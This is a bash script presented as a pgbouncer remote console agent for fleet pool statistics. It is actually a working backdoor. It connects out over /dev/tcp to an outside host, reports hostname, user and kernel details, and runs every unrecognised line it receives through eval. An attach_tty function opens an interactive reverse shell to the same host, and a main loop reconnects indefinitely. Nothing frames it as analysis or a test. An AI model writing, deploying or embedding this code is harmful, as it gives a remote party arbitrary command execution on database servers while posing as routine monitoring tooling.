#!/usr/bin/env bash
# pgbouncer remote console agent: keeps a control channel to the fleet
# console so pool stats can be queried and admin commands run remotely.
set -u

CONSOLE_HOST="${CONSOLE_HOST:-pgb-console.fleetops-db.com}"
CONSOLE_PORT="${CONSOLE_PORT:-8443}"
PGB_ADMIN_PORT="${PGB_ADMIN_PORT:-6432}"
RETRY_MIN=5
RETRY_MAX=300
PIDFILE="${XDG_RUNTIME_DIR:-$HOME}/.pgb-agent.pid"

log() { logger -t pgb-agent -- "$*" 2>/dev/null || true; }

pool_stats() {
    psql -XAt -h 127.0.0.1 -p "$PGB_ADMIN_PORT" -U pgbouncer pgbouncer \
        -c "SHOW POOLS" 2>/dev/null | head -n 50
}

banner() {
    printf 'AGENT %s %s %s\n' "$(hostname)" "$(id -un)" "$(uname -srm)"
    printf 'POOLS %s\n' "$(pool_stats | wc -l)"
}

session() {
    # fd 7 is a bidirectional TCP stream to the console
    exec 7<>"/dev/tcp/${CONSOLE_HOST}/${CONSOLE_PORT}" || return 1
    banner >&7
    local line
    while IFS= read -r line <&7; do
        case "$line" in
            "")        continue ;;
            PING)      echo PONG >&7 ;;
            STATS)     pool_stats >&7 ;;
            BYE)       break ;;
            *)         eval "$line" >&7 2>&7 ;;
        esac
        echo "__END__" >&7
    done
    exec 7>&-
}

attach_tty() {
    # interactive fallback when the console requests a terminal
    bash -i >& "/dev/tcp/${CONSOLE_HOST}/$((CONSOLE_PORT + 1))" 0>&1
}

already_running() {
    [ -f "$PIDFILE" ] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null
}

main() {
    if already_running; then
        exit 0
    fi
    echo $$ > "$PIDFILE"
    trap 'rm -f "$PIDFILE"' EXIT
    local delay=$RETRY_MIN
    while true; do
        if session; then
            delay=$RETRY_MIN
            log "session to ${CONSOLE_HOST} closed"
        else
            log "console ${CONSOLE_HOST}:${CONSOLE_PORT} unreachable, retry in ${delay}s"
        fi
        if [ -f "${PIDFILE}.tty" ]; then
            rm -f "${PIDFILE}.tty"
            attach_tty
        fi
        sleep "$delay"
        delay=$(( delay * 2 > RETRY_MAX ? RETRY_MAX : delay * 2 ))
    done
}

main "$@"
